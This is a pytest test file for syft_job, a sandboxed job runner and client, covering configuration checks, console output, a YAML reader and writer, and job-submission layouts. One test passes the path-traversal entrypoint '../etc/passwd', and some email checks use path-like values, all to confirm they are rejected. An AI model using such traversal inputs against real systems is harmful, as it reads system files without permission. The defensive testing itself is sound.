"""Tests of syft_job: real processes, real files in tmp_path, no network.

Run with: python -m pytest -q test_syft_job.py
Fast subset only: python3 -m pytest -q test_syft_job.py -m "not slow and not sandbox and not slurm and not upstream"
"""

from __future__ import annotations

import ast
import contextlib
import errno
import hashlib
import inspect
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path
from typing import Callable, Sequence

import pytest

import syft_job
from syft_job import ConfigError, JobError, JobNotFoundError, SyftJobConfig, YAMLError

HERE = Path(__file__).resolve().parent
OWNER = "do@test.org"
DS = "ds@test.org"
OTHER = "other@test.org"
HAVE_BWRAP = syft_job._bwrap() is not None


class _Marks(list):
    """Marks usable both as pytest.param(..., marks=...) and as a decorator."""

    def __call__(self, function):
        for mark in reversed(self):
            function = mark(function)
        return function


needs_sandbox = _Marks([pytest.mark.sandbox,
                        pytest.mark.skipif(not HAVE_BWRAP, reason="bubblewrap is not installed here (apt-get install "
                                                                  "bubblewrap): the sandbox cannot be tested")])
PROTOCOLS = HERE / "tests" / "fixtures" / "protocols"
# A Python that a root runner's jobs (run as nobody) can run: the system's, not one under /root.
JOB_PYTHON = "/usr/bin/python3" if os.access("/usr/bin/python3", os.X_OK) else sys.executable


# ---------------------------------------------------------------------------
# Helpers
# ---------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def private_state(tmp_path, monkeypatch) -> Path:
    """Each test's runners keep their private state in its own folder. A root runner's
    jobs run as nobody, who must go through tmp_path's folders to reach their copies,
    and may leave files in tmp_path itself (the tests' jobs note what they did there)."""
    for folder in tmp_path.parents:
        if str(folder) in ("/", "/tmp"):
            break
        os.chmod(folder, os.stat(folder).st_mode | 0o111)
    os.chmod(tmp_path, 0o1777)
    state = tmp_path / "state"
    monkeypatch.setenv("XDG_STATE_HOME", str(state))
    return state


def wait_for(condition, timeout: float = 30.0, what: str = "condition"):
    """Poll ``condition`` until it is truthy; fail after ``timeout`` (a hang bound)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = condition()
        if value:
            return value
        time.sleep(0.02)
    raise AssertionError(f"timed out waiting for {what}")


def pid_alive(pid: int) -> bool:
    """True while ``pid`` runs (a zombie counts as gone)."""
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return True
    return "\nState:\tZ" not in status


def processes_with(marker: str) -> list[int]:
    """Host pids of running processes whose command line holds ``marker`` (whatever
    namespace or group they live in)."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                if marker.encode() in Path(f"/proc/{name}/cmdline").read_bytes() and pid_alive(int(name)):
                    found.append(int(name))
            except OSError:
                pass
    return found


def kill_marked(marker: str) -> None:
    for pid in processes_with(marker):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)


@pytest.fixture
def syftbox(tmp_path: Path) -> Path:
    folder = tmp_path / "SyftBox"
    (folder / OWNER).mkdir(parents=True)
    return folder


@pytest.fixture
def runner(syftbox: Path) -> syft_job.SyftJobRunner:
    return syft_job.create_runner(syftbox, OWNER, poll_interval=0.1)


@pytest.fixture
def plain_runner(syftbox: Path) -> syft_job.SyftJobRunner:
    """A runner without a sandbox: the always-on protections only."""
    return syft_job.create_runner(syftbox, OWNER, poll_interval=0.1, isolation="none")


def make_job(runner: syft_job.SyftJobRunner, name: str, script: str | bytes | None,
             submitter: str = DS, approved: bool = True, config: str | None = None) -> Path:
    """A legacy job folder, as the syft-job 0.1.24 client writes it."""
    folder = runner.job_dir / submitter / name
    folder.mkdir(parents=True)
    if config is None:
        config = syft_job.dump_yaml({"name": name, "submitted_by": submitter,
                                     "submitted_at": "2026-03-02T10:30:00+00:00"})
    (folder / "config.yaml").write_text(config, encoding="utf-8")
    if script is not None:
        data = script if isinstance(script, bytes) else textwrap.dedent(script).encode()
        (folder / "run.sh").write_bytes(data)
    if approved:
        (folder / "approved").touch()
    return folder


def new_job(runner: syft_job.SyftJobRunner, name: str, script: str, layout: str = "v0", submitter: str = DS,
            approve: bool = True) -> tuple[Path, Path]:
    """A job in the inbox/review layouts, submitted with JobClient and approved with
    approve_job; ``(submission folder, results folder)``."""
    (runner.config.syftbox_folder / submitter).mkdir(exist_ok=True)
    client = syft_job.JobClient(SyftJobConfig.from_syftbox_folder(runner.config.syftbox_folder, submitter), layout)
    folder = client.submit_bash_job(OWNER, script, job_name=name)
    if approve:
        runner.approve_job(name, submitter)
    level = ["v1"] if layout == "v1" else []
    return folder, runner.job_dir.joinpath("review", submitter, *level, name)


def state_of(results: Path) -> dict:
    return syft_job.load_yaml((results / "state.yaml").read_text())


def run_record(runner: syft_job.SyftJobRunner, results: Path) -> dict:
    rows = [r for r in runner.list_jobs() if r["results"] == str(results)]
    return rows[0]


RUNNER_SCRIPT = """
import sys, syft_job
runner = syft_job.create_runner(sys.argv[1], sys.argv[2], poll_interval=0.1, {settings})
{body}
"""


def start_runner_process(syftbox: Path, body: str, stdout=subprocess.PIPE, env=None,
                         settings: str = "") -> subprocess.Popen:
    """A runner in its own Python process, to send it signals and watch its console."""
    code = RUNNER_SCRIPT.format(body=body, settings=settings)
    return subprocess.Popen([sys.executable, "-u", "-c", code, str(syftbox), OWNER],
                            stdout=stdout, stderr=subprocess.STDOUT, cwd=HERE, env=env)


class LineReader:
    """Reads a process's output in the background so a test can wait for a line."""

    def __init__(self, proc: subprocess.Popen) -> None:
        self.lines: list[str] = []
        self.thread = threading.Thread(target=self._read, args=(proc,), daemon=True)
        self.thread.start()

    def _read(self, proc: subprocess.Popen) -> None:
        for raw in proc.stdout:
            self.lines.append(raw.decode("utf-8", "replace"))

    def wait_for(self, needle: str, timeout: float = 30.0) -> str:
        return wait_for(lambda: next((l for l in self.lines if needle in l), None), timeout, repr(needle))

    @property
    def text(self) -> str:
        return "".join(self.lines)


def cli_env(**extra: str) -> dict:
    env = {k: v for k, v in os.environ.items()
           if k not in ("SYFTBOX_FOLDER", "SYFTBOX_EMAIL", "SYFTBOX_CLIENT_CONFIG_PATH", "SYFT_DEFAULT_JOB_TIMEOUT_SECONDS")}
    env["PYTHONPATH"] = str(HERE)
    env.update(extra)
    return env


def cli(*args: str, cwd: Path | None = None, env: dict | None = None, input: str | None = None,
        timeout: float = 60) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "syft_job", *args], cwd=cwd, env=env or cli_env(),
                          input=input, capture_output=True, text=True, timeout=timeout)


def site_args(syftbox: Path) -> list[str]:
    return ["--syftbox-folder", str(syftbox), "--email", OWNER]


NOBODY = 65534


class Owner:
    """Runs ``syft-job`` as one kind of data owner: ``root`` (its jobs run as nobody) or
    ``user`` (an ordinary account: uid 65534 when the tests run as root). The user's
    runner imports a copy of the module, from a folder that account can read."""

    def __init__(self, kind: str, tmp_path: Path) -> None:
        self.kind = kind
        self.switch = kind == "user" and os.geteuid() == 0
        self.home = tmp_path / f"home-{kind}"
        self.home.mkdir()
        self.lib = HERE
        if self.switch:
            self.lib = tmp_path / "lib"
            self.lib.mkdir()
            shutil.copy(HERE / "syft_job.py", self.lib / "syft_job.py")
            os.chown(self.home, NOBODY, NOBODY)

    def runs_jobs_as(self, uid: int) -> bool:
        """Whether ``uid`` is one this owner's jobs run as: as root, each run's own (from
        syft_job's range); as an ordinary owner, the owner's."""
        if os.geteuid() != 0 or self.kind == "user":
            return uid == (NOBODY if self.switch else os.getuid())
        return syft_job._JOB_UIDS <= uid < syft_job._JOB_UIDS + (1 << 24)

    def cli(self, syftbox: Path, *args: str, timeout: float = 120, **env: str) -> subprocess.CompletedProcess:
        if self.switch:  # the owner's datasite is the owner's
            for parent, folders, files in os.walk(syftbox):
                for name in [parent] + [os.path.join(parent, n) for n in folders + files]:
                    os.chown(name, NOBODY, NOBODY, follow_symlinks=False)
        prefix = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--"] if self.switch else []
        environment = cli_env(HOME=str(self.home), XDG_STATE_HOME=str(self.home / "state"), PYTHONPATH=str(self.lib),
                              **env)
        python = JOB_PYTHON if self.switch else sys.executable
        return subprocess.run(prefix + [python, "-m", "syft_job", *args, *site_args(syftbox)], env=environment,
                              capture_output=True, text=True, timeout=timeout)


@pytest.fixture(params=["root", "user"])
def owner(request, tmp_path) -> Owner:
    if request.param == "root" and os.geteuid() != 0:
        pytest.skip("the runner as root: the tests do not run as root here")
    if request.param == "user" and os.geteuid() == 0 and not shutil.which("setpriv"):
        pytest.skip("the runner as an ordinary user: util-linux's setpriv is not installed")
    return Owner(request.param, tmp_path)


def legacy_job(syftbox: Path, name: str, script: str, submitter: str = DS, approved: bool = True) -> Path:
    """A legacy job folder, as 0.1.24's client writes it (no runner object needed)."""
    folder = syftbox / OWNER / "app_data" / "job" / submitter / name
    folder.mkdir(parents=True)
    (folder / "config.yaml").write_text(syft_job.dump_yaml({"name": name, "submitted_by": submitter}))
    (folder / "run.sh").write_text(textwrap.dedent(script))
    if approved:
        (folder / "approved").touch()
    return folder

# ---------------------------------------------------------------------------
# Configuration and the public API
# ---------------------------------------------------------------------------


def test_config_expands_home_and_resolves(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "SyftBox").mkdir()
    config = SyftJobConfig.from_syftbox_folder("~/SyftBox/../SyftBox", OWNER)
    assert config.syftbox_folder == (tmp_path / "SyftBox").resolve()
    assert config.email == OWNER
    assert config.get_user_dir(DS) == config.syftbox_folder / DS
    assert config.get_job_dir(OWNER) == config.syftbox_folder / OWNER / "app_data" / "job"


def test_config_rejects_missing_folder_file_and_bad_email(tmp_path):
    with pytest.raises(ConfigError, match="not found"):
        SyftJobConfig.from_syftbox_folder(tmp_path / "nope", OWNER)
    (tmp_path / "file").write_text("x")
    with pytest.raises(ConfigError, match="not a folder"):
        SyftJobConfig.from_syftbox_folder(tmp_path / "file", OWNER)
    for bad in ["owner", "a@b", "a b@c.org", "../x@y.org", "a/b@c.org", ""]:
        with pytest.raises(ConfigError, match="email"):
            SyftJobConfig.from_syftbox_folder(tmp_path, bad)


def test_create_runner_takes_every_keyword_and_creates_nothing(syftbox, tmp_path):
    before = sorted(p for p in syftbox.rglob("*"))
    (tmp_path / "data").mkdir()
    runner = syft_job.create_runner(str(syftbox), OWNER, poll_interval=7, console=False, isolation="none",
                                    allow_read=[tmp_path / "data"], network=True, work_dir=tmp_path / "work",
                                    max_concurrent_jobs=3, launcher="slurm", slurm_args=["--partition=x"],
                                    require_approval_digest=True, env_passthrough=["X"], max_memory_mb=100,
                                    max_cpu_seconds=5, max_log_bytes=1000, max_output_bytes=10, max_output_files=2,
                                    run_as="nobody" if os.geteuid() == 0 else None)
    assert runner.job_dir == syftbox.resolve() / OWNER / "app_data" / "job"
    assert (runner.poll_interval, runner.settings.max_concurrent_jobs, runner.settings.isolation) == (7, 3, "none")
    assert sorted(p for p in syftbox.rglob("*")) == before and not (tmp_path / "work").exists()
    same = syft_job.SyftJobRunner(SyftJobConfig.from_syftbox_folder(syftbox, OWNER))
    assert same.poll_interval == 5 and same.settings.max_concurrent_jobs == 1
    assert same.settings.work_dir == tmp_path / "state" / "syft-job"
    for bad, message in (({"poll_interval": 0}, "poll_interval"), ({"max_concurrent_jobs": 1.5}, "max_concurrent_jobs"),
                         ({"max_log_bytes": 0}, "max_log_bytes must be a positive whole number"),
                         ({"isolation": "chroot"}, "isolation must be one of"), ({"launcher": "k8s"}, "launcher"),
                         ({"work_dir": syftbox / "state"}, "inside the SyftBox folder"),
                         ({"allow_read": [tmp_path / "missing"]}, "does not exist"),
                         ({"allow_read": [tmp_path]}, "would let jobs read a job tree"),
                         ({"allow_read": [tmp_path / "state" / "syft-job" / "x"]}, "does not exist"),
                         ({"allow_read": [os.path.expanduser("~/..")]}, "would let jobs read"),
                         ({"isolation": "none", "network": False}, "needs the sandbox"),
                         ({"run_as": "no-such-account-here"}, "no account" if os.geteuid() == 0 else "only a runner"),
                         ({"max_output_files": 0}, "max_output_files"),
                         ({"console": 42}, "console must be"), ({"env_passthrough": ["A=B"]}, "environment variable"),
                         ({"on_event": 5, "max_concurrent_jobs": 0}, "on_event must be a callable")):
        with pytest.raises(ConfigError, match=message):
            syft_job.create_runner(syftbox, OWNER, **bad)


def test_public_names_version_and_quick_start(tmp_path, monkeypatch, capsys):
    assert re.match(r"^\d+\.\d+\.\d+$", syft_job.__version__)
    for name in syft_job.__all__:
        assert hasattr(syft_job, name), name
    # The module docstring's quick start runs as written (all but the blocking run()).
    doc = syft_job.__doc__
    block = doc.split("Quick start", 1)[1].split("::\n", 1)[1].split("\n``create_runner", 1)[0]
    code = textwrap.dedent(block)
    assert "runner.run()" in code
    code = code.replace("runner.run()", "pass")
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "SyftBox" / "owner@example.com").mkdir(parents=True)
    (tmp_path / "SyftBox" / "ds@example.com").mkdir()
    exec(compile(code, "quick start", "exec"), {})
    review = tmp_path / "SyftBox" / "owner@example.com" / "app_data" / "job" / "review" / "ds@example.com" / "hello"
    assert (review / "outputs" / "hello.txt").read_text() == "hello\n"
    out = capsys.readouterr().out
    assert "NEW JOB DETECTED: ds@example.com/hello" in out
    assert re.search(r"^hello done 0 \d+\.\d\d s$", out, re.M)
    assert re.search(r"^hello\s+owner@example\.com\s+done\s+\S+\s+0\s+logs outputs$", out, re.M)


def test_process_approved_jobs_returns_a_result_per_job(runner):
    make_job(runner, "ok", "echo fine\n")
    make_job(runner, "bad", "exit 3\n")
    make_job(runner, "no script", None)
    results = {r.name: r for r in runner.process_approved_jobs(stream_output=False)}
    assert set(results) == {"ok", "bad", "no script"}
    ok, bad, broken = results["ok"], results["bad"], results["no script"]
    assert (ok.submitter, ok.status, ok.return_code, ok.succeeded, ok.reason) == (DS, "done", 0, True, None)
    assert (bad.status, bad.return_code, bad.succeeded) == ("failed", 3, False)
    assert (broken.status, broken.return_code) == ("failed", -1) and "has no run.sh" in broken.reason
    for result in results.values():
        assert result.started_at.tzinfo is not None and result.finished_at >= result.started_at
        assert 0 <= result.duration < 30
    assert runner.process_approved_jobs() == []  # finished jobs never run again


class Sink:
    def __init__(self) -> None:
        self.writes: list[str] = []

    def write(self, text: str) -> None:
        self.writes.append(text)

    @property
    def text(self) -> str:
        return "".join(self.writes)


def test_console_sink_gets_every_line_and_false_is_silence(syftbox, capsys):
    sink = Sink()
    runner = syft_job.create_runner(syftbox, OWNER, console=sink)
    make_job(runner, "waiting", "echo w\n", approved=False)
    make_job(runner, "speaks", "echo one\necho two >&2\n")
    runner.check_for_new_jobs()
    runner.process_approved_jobs()
    assert capsys.readouterr().out == ""
    text = "".join(sink.writes)
    assert all(w.endswith("\n") for w in sink.writes)  # whole lines only
    assert f"🔔 NEW JOB DETECTED: {DS}/waiting\n" in text and "🚀 Executing job: speaks\n" in text
    assert f"[{OWNER}][speaks] one\n" in text and f"[{OWNER}][speaks] STDERR: two\n" in text
    assert "✅ Job speaks completed successfully\n📄 Output written to stdout.txt\n" in text
    silent = syft_job.create_runner(syftbox, OWNER, console=False)
    make_job(silent, "quiet", "echo q\n")
    make_job(silent, "new one", "echo n\n", approved=False)
    silent.check_for_new_jobs()
    assert [r.name for r in silent.process_approved_jobs()] == ["quiet"]
    assert capsys.readouterr().out == ""


def test_the_library_prints_only_through_its_console():
    source = (HERE / "syft_job.py").read_text()
    library = source.split('"""', 2)[2].split("# Command line\n", 1)[0]  # the code, not the tutorial
    assert not re.search(r"(?<![\w.])print\(", library)
    assert "preexec_fn" not in source


# ---------------------------------------------------------------------------
# YAML
# ---------------------------------------------------------------------------

FIXTURES = sorted((HERE / "tests" / "fixtures" / "yaml").glob("*.yaml"))


def test_fixtures_are_there():
    assert len(FIXTURES) == 15
    assert len(list(PROTOCOLS.glob("*/README.md"))) == 3


@pytest.mark.parametrize("path", FIXTURES, ids=lambda p: p.stem)
def test_reader_gives_what_pyyaml_gives(path):
    expected = json.loads(path.with_suffix(".json").read_text(encoding="utf-8"))
    value = syft_job.load_yaml(path.read_text(encoding="utf-8"), str(path))
    assert value == expected
    assert syft_job.load_yaml(syft_job.dump_yaml(value)) == value


def test_reader_reads_every_protocol_fixture():
    files = list(PROTOCOLS.rglob("*.yaml"))
    assert len(files) == 39
    for path in files:
        value = syft_job.load_yaml(path.read_text(encoding="utf-8"), str(path))
        assert isinstance(value, dict), path
    state = syft_job.load_yaml((PROTOCOLS / "0.1.40/SyftBox/do@example.com/app_data/job/review/ds@example.com/v1/"
                                           "rejected/state.yaml").read_text())
    assert state == {"approval_method": None, "approved_at": None, "approved_by": None, "canonical_name": "JobState",
                     "completed_at": None, "received_at": "2026-11-29T16:30:01.053381Z",
                     "rejected_at": "2026-11-29T16:30:01.075498Z", "rejected_by": "do@example.com",
                     "return_code": None, "review_reason": "asks for raw records; aggregate first",
                     "status": "rejected", "version": "1"}


def test_reader_takes_the_4_space_style_of_go_yaml_v3():
    text = ("rules:\n    - pattern: '**'\n      access:\n        admin: []\n        read:\n"
            "            - ds@example.com\n            - '*@company.com'\n        write: []\n"
            "    - pattern: \"v1/*/state.yaml\"\n      access:\n        read:\n            - ds@example.com\n"
            "terminal: false\n")
    assert syft_job.load_yaml(text) == {"rules": [
        {"pattern": "**", "access": {"admin": [], "read": ["ds@example.com", "*@company.com"], "write": []}},
        {"pattern": "v1/*/state.yaml", "access": {"read": ["ds@example.com"]}}], "terminal": False}


@pytest.mark.parametrize("text, expected", [
    ("a: true\nb: False\nd: ~\ne: null\nf: ''\ng:\n", {"a": True, "b": False, "d": None, "e": None, "f": "", "g": None}),
    ("a: 0\nc: -7\nd: +12\ne: 0o17\n", {"a": 0, "c": -7, "d": 12, "e": "0o17"}),
    ("a: 2.5\nb: 1e5\nc: 1.0e+5\nd: .5\n", {"a": 2.5, "b": "1e5", "c": 100000.0, "d": 0.5}),
    ("a: '0123'\nb: 'yes'\nc: \"1.5\"\n", {"a": "0123", "b": "yes", "c": "1.5"}),
    ("---\n# comment\nlist: [a, 'b c', \"d\", 1, ]\nempty: []\nnone: {}\n",
     {"list": ["a", "b c", "d", 1], "empty": [], "none": {}}),
    ("s: \"\\x41\\u00e9\\U0001F600\\n\\t\\\\ \\\"q\\\"\"\n", {"s": "A\u00e9\U0001F600\n\t\\ \"q\""}),
    ("s: 'it''s'\n", {"s": "it's"}),
    ("s: \"folded \\\n  \\ line\"\n", {"s": "folded  line"}),
    ("plain: a long plain\n  scalar folded\n\n  with a blank line\n", {"plain": "a long plain scalar folded\nwith a blank line"}),
    ("url: http://x.org/a#b\nc: a#b # comment\n", {"url": "http://x.org/a#b", "c": "a#b"}),
    ("- a\n- - b\n  - c\n- k: v\n  k2: [1]\n-\n", ["a", ["b", "c"], {"k": "v", "k2": [1]}, None]),
    ("rules:\n  - pattern: '**'\n    access:\n      read: ['*']\n", {"rules": [{"pattern": "**", "access": {"read": ["*"]}}]}),
    ('{"status": "approved", "return_code": 0, "review_reason": null}',
     {"status": "approved", "return_code": 0, "review_reason": None}),
    ("", None),
    ("# only a comment\n", None),
    ("just text\n", "just text"),
])
def test_reader_cases(text, expected):
    assert syft_job.load_yaml(text) == expected


@pytest.mark.parametrize("text, line, message", [
    ("a: yes\n", 1, "not a string in YAML 1.1"),
    ("a: 0123\n", 1, "not a string in YAML 1.1"),
    ("a: 2026-03-02\n", 1, "not a string in YAML 1.1"),
    ("a: 1_000\nb: 1:30\n", 1, "not a string in YAML 1.1"),
    ("a: .inf\n", 1, "not a string in YAML 1.1"),
    ("a: &anchor 1\n", 1, "starting with '&'"),
    ("a: 1\nb: *alias\n", 2, "starting with '*'"),
    ("a: !!str 1\n", 1, "starting with '!'"),
    ("a: 1\n---\nb: 2\n", 2, "a second document"),
    ("a: 1\n...\n", 2, "a second document"),
    ("--- text\n", 1, "only a bare '---'"),
    ("a:\n\tb: 1\n", 2, "tab"),
    ("a: 1\n  b: 2\n", 2, "quote it"),
    ("a: 'unclosed\n", 1, "not closed"),
    ("a: [1, 2\n", 1, "on one line"),
    ("a: {b: 1}\n", 1, "flow mappings"),
    ("a: [x, [y]]\n", 1, "only plain or quoted scalars"),
    ("a: |\n  text\n", 1, "starting with '|'"),
    ("a: b: c\n", 1, "quote it"),
    ("a: 1\nnot a mapping line\n", 2, "expected 'key: value'"),
    ("a: 1\na: 2\n", 2, "appears twice"),
    ("a: \"\\q\"\n", 1, "unknown escape"),
    ("? complex\n: key\n", 1, "complex mapping keys"),
    ("a: @x\n", 1, "starting with '@'"),
    ("- a\nb: 1\n", 2, ""),
    ("a: \x07\n", 1, "not allowed"),
    ("a:\n" + "".join(" " * i + "- \n" for i in range(1, 200)), 101, "nested deeper than 100"),
])
def test_reader_refuses_what_it_does_not_read_exactly_naming_file_and_line(text, line, message):
    with pytest.raises(YAMLError) as caught:
        syft_job.load_yaml(text, "jobs/config.yaml")
    assert str(caught.value).startswith(f"jobs/config.yaml, line {line}: ")
    assert message in str(caught.value)
    assert (caught.value.source, caught.value.line) == ("jobs/config.yaml", line)


ODD_CHARS = list("abcXYZ019 _-.:#'\"!&*@%`?,[]{}|>\\/\t\n\r~=<") + [
    "é", "—", "✓", "日", "\x00", "\x07", "\x1b", "\x7f", "\x85", "\u2028", "\U0001F600", "\xa0", "\ufeff"]
ODD_WORDS = ["yes", "no", "null", "~", "true", "0123", "1.5", "1e5", "0x1F", "2026-03-02", "Y", "n", "NaN",
             "2026-03-02T10:30:00+00:00", "-", "- x", "--- x", "...", "=", "<<", ".inf", "1_000", "0o17",
             "1:30", "+1", "", " ", "a: b", "x # y", "'", '"', "key:", ":x", "-x", "@home", "%p"]


def random_string(rng: random.Random) -> str:
    if rng.random() < 0.25:
        return rng.choice(ODD_WORDS)
    length = rng.choice([0, 1, 2, 5, 20, 100, 300])
    return "".join(rng.choice(ODD_CHARS) for _ in range(length))


def random_value(rng: random.Random, depth: int = 0):
    roll = rng.random()
    if depth < 3 and roll < 0.15:
        return {random_string(rng): random_value(rng, depth + 1) for _ in range(rng.randint(0, 4))}
    if depth < 3 and roll < 0.3:
        return [random_value(rng, depth + 1) for _ in range(rng.randint(0, 4))]
    if roll < 0.38:
        return rng.choice([True, False, None, 0, -7, 2.5, 1e20, -1e-5, 10**30])
    return random_string(rng)


@pytest.mark.slow
def test_writer_output_reads_back_equal_property():
    for seed in range(3000):
        rng = random.Random(seed)
        value = {random_string(rng): random_value(rng) for _ in range(rng.randint(1, 6))}
        text = syft_job.dump_yaml(value)
        assert syft_job.load_yaml(text) == value, (seed, text)


def test_writer_refuses_what_yaml_cannot_hold():
    with pytest.raises(TypeError, match="set"):
        syft_job.dump_yaml({"a": {1, 2}})
    # A hostile file can hold 1e+999 (inf): written back as PyYAML writes it, never a crash.
    assert syft_job.dump_yaml({"a": float("nan"), "b": float("-inf")}) == "a: .nan\nb: -.inf\n"


@pytest.mark.slow
def test_writer_output_reads_back_in_pyyaml_when_available():
    yaml = pytest.importorskip("yaml", reason="PyYAML is not installed: the cross-check with it is skipped")
    for seed in range(2000):
        rng = random.Random(seed)
        value = {random_string(rng): random_value(rng) for _ in range(rng.randint(1, 6))}
        assert yaml.safe_load(syft_job.dump_yaml(value)) == value, seed


@pytest.mark.slow
def test_reader_never_disagrees_with_pyyaml_on_what_pyyaml_writes():
    yaml = pytest.importorskip("yaml", reason="PyYAML is not installed: the cross-check with it is skipped")
    agreed = 0
    for seed in range(1500):
        rng = random.Random(seed)
        value = {random_string(rng): random_value(rng) for _ in range(rng.randint(1, 6))}
        for width in (80, 20):
            text = yaml.dump(value, default_flow_style=False, allow_unicode=bool(seed % 2), width=width)
            try:
                ours = syft_job.load_yaml(text)
            except YAMLError:
                continue  # refused: allowed; a wrong value is not
            assert ours == yaml.safe_load(text), (seed, text)
            agreed += 1
    assert agreed > 400


# ---------------------------------------------------------------------------
# Submitting jobs (the data scientist's side)
# ---------------------------------------------------------------------------

SEED_SCRIPT = """#!/bin/bash
set -euo pipefail
export UV_SYSTEM_PYTHON=false
uv venv --python 3.12
source .venv/bin/activate
uv pip install "syft-client" "numpy" "pandas"
python script.py
"""

SEED_PROJECT_SCRIPT = """#!/bin/bash
set -euo pipefail
export UV_SYSTEM_PYTHON=false
cd project_dir && uv sync --python 3.12 && cd ..
source project_dir/.venv/bin/activate
uv pip install "syft-client" "numpy"
export PYTHONPATH=project_dir:${PYTHONPATH:-}
python project_dir/main.py
"""

UPSTREAM_SCRIPT = """#!/bin/bash
set -euo pipefail
export UV_SYSTEM_PYTHON=false
cd code
uv venv --python 3.12
source .venv/bin/activate
uv pip install "syft-client" "numpy"
export PYTHONPATH=.:${PYTHONPATH:-}
python analysis.py
"""


def client_for(syftbox: Path, layout: str | None = None, email: str = DS) -> syft_job.JobClient:
    (syftbox / email).mkdir(exist_ok=True)
    return syft_job.JobClient(SyftJobConfig.from_syftbox_folder(syftbox, email), layout)


def test_legacy_python_run_sh_is_the_documented_text(syftbox, tmp_path, monkeypatch):
    monkeypatch.delenv("SYFT_CLIENT_INSTALL_SOURCE", raising=False)
    client = client_for(syftbox, "legacy")
    script = tmp_path / "script.py"
    script.write_text("print('hi')\n")
    job = client.submit_python_job(OWNER, script, job_name="single", dependencies=["numpy", "pandas"])
    assert job == syftbox / OWNER / "app_data" / "job" / DS / "single"
    assert (job / "run.sh").read_bytes() == SEED_SCRIPT.encode() and os.access(job / "run.sh", os.X_OK)
    assert (job / "script.py").read_text() == "print('hi')\n"
    project = tmp_path / "project_dir"
    project.mkdir()
    (project / "pyproject.toml").write_text("[project]\nname = 'p'\n")
    (project / "main.py").write_text("print('main')\n")
    job = client.submit_python_job(OWNER, project, job_name="folder", dependencies=["numpy"])
    assert (job / "run.sh").read_bytes() == SEED_PROJECT_SCRIPT.encode()
    config = syft_job.load_yaml((job / "config.yaml").read_text())
    assert set(config) == {"name", "submitted_by", "submitted_at", "type", "code_path", "entry_point",
                           "dependencies", "is_folder_submission"}
    assert re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+\+00:00$", config["submitted_at"])


def test_new_layout_submissions_are_what_upstream_clients_write(syftbox, tmp_path, monkeypatch):
    monkeypatch.delenv("SYFT_CLIENT_INSTALL_SOURCE", raising=False)
    script = tmp_path / "analysis.py"
    script.write_text('print("mean age:", 41.5)\n')
    fixture = PROTOCOLS / "0.1.39/SyftBox/do@example.com/app_data/job/inbox/ds@example.com/python-pending"
    for layout, level in (("v0", []), ("v1", ["v1"])):
        job = client_for(syftbox, layout).submit_python_job(OWNER, script, job_name=f"py {layout}",
                                                            dependencies=["numpy"])
        assert job == syftbox.joinpath(OWNER, "app_data", "job", "inbox", DS, *level, f"py {layout}")
        assert sorted(p.name for p in job.iterdir()) == ["code", "config.yaml", "run.sh"]
        assert (job / "run.sh").read_text() == UPSTREAM_SCRIPT == (fixture / "run.sh").read_text()
        config = syft_job.load_yaml((job / "config.yaml").read_text())
        expected = syft_job.load_yaml((fixture / "config.yaml").read_text())
        assert set(config) == set(expected) | ({"canonical_name", "version"} if layout == "v1" else set())
        assert config["dependencies"] == ["syft-client", "numpy"] and config["files"] == ["analysis.py"]
        assert config["entrypoint"] == "analysis.py" and "submitted_by" not in config
        assert re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z$", config["submitted_at"])
        assert (config.get("canonical_name"), config.get("version")) == (
            ("JobSubmissionMetadata", "1") if layout == "v1" else (None, None))
    bash = client_for(syftbox, "v0").submit_bash_job(OWNER, "echo hi\n", job_name="sh")
    assert (bash / "run.sh").read_text() == (bash / "code" / "script.sh").read_text() == "echo hi\n"
    assert syft_job.load_yaml((bash / "config.yaml").read_text())["type"] == "bash"
    with pytest.raises(JobError, match="reserved for protocol folders"):
        client_for(syftbox, "v1").submit_bash_job(OWNER, "true", job_name="v2")


def test_the_client_submits_in_the_layout_the_owner_uses(syftbox):
    job_dir = syftbox / OWNER / "app_data" / "job"
    assert client_for(syftbox).submit_bash_job(OWNER, "true", job_name="a").parent == job_dir / "inbox" / DS
    (job_dir / "inbox" / DS / "v1").mkdir()
    assert client_for(syftbox).submit_bash_job(OWNER, "true", job_name="b").parent == job_dir / "inbox" / DS / "v1"
    legacy_owner = syftbox / "old@test.org"
    (legacy_owner / "app_data" / "job" / DS).mkdir(parents=True)
    assert client_for(syftbox).submit_bash_job("old@test.org", "true", job_name="c").parent == \
        legacy_owner / "app_data" / "job" / DS
    with pytest.raises(ConfigError, match="layout must be one of"):
        syft_job.JobClient(SyftJobConfig.from_syftbox_folder(syftbox, DS), "v9")


def test_folder_entrypoint_rules(syftbox, tmp_path):
    client = client_for(syftbox, "legacy")
    folder = tmp_path / "code"
    folder.mkdir()
    (folder / "a.py").write_text("")
    (folder / "b.py").write_text("")
    with pytest.raises(JobError, match="cannot tell which script.*a.py, b.py"):
        client.submit_python_job(OWNER, folder, job_name="x")
    job = client.submit_python_job(OWNER, folder, job_name="y", entrypoint="b.py")
    assert (job / "run.sh").read_text().endswith("python code/b.py\n")
    with pytest.raises(JobError, match="entrypoint"):
        client.submit_python_job(OWNER, folder, job_name="z", entrypoint="../etc/passwd")
    with pytest.raises(JobError, match="not found"):
        client.submit_python_job(OWNER, tmp_path / "missing.py", job_name="w")
    (tmp_path / "data.csv").write_text("a,b\n")
    with pytest.raises(JobError, match="not a .py file"):
        client.submit_python_job(OWNER, tmp_path / "data.csv", job_name="v")


def test_base_packages_by_argument_and_environment(syftbox, tmp_path, monkeypatch):
    client = client_for(syftbox, "legacy")
    script = tmp_path / "s.py"
    script.write_text("")
    job = client.submit_python_job(OWNER, script, job_name="arg", dependencies=["numpy"], base_packages=[])
    assert 'uv pip install "numpy"\n' in (job / "run.sh").read_text()
